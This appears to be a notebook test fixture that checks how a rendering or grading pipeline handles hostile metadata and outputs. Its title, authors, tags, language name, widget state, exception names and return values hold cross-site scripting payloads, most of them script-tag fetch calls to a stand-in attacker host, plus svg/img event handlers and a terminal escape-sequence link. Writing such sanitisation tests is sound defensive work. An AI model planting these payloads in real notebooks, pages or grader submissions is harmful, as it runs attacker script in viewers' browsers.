# ---
# note: scripts in the notebook's title, kernel, cell ids, tags, attachments and error names
# kind: scripts
# known_from: templates that write metadata into attributes and titles
# cell_metadata:
#   "*": {tags: ['"><script>fetch("https://canary-of-an-attacker.example")</script>']}
# notebook_metadata:
#   title: </title><script>fetch("https://canary-of-an-attacker.example")</script>
#   authors: [{name: '<script>fetch("https://canary-of-an-attacker.example")</script>'}]
#   language_info: {name: '"><script>fetch("https://canary-of-an-attacker.example")</script>'}
#   widgets:
#     application/vnd.jupyter.widget-state+json:
#       version_major: 2
#       version_minor: 0
#       state: {a: {state: {x: '</script><script>fetch("https://canary-of-an-attacker.example")'}}}
# ---
# %% judged double-answer
def double(x):
    raise type("</pre><script>fetch('https://canary-of-an-attacker.example')", (Exception,), {})


# %% judged count-answer
def count(words, letter):
    raise ValueError("\x1b]8;;javascript:canary-of-an-attacker\x1b\\</pre><svg onload=alert(1)>")


# %% judged longest-answer
def longest(words):
    return "</script><img src=x onerror=fetch('https://canary-of-an-attacker.example')>"
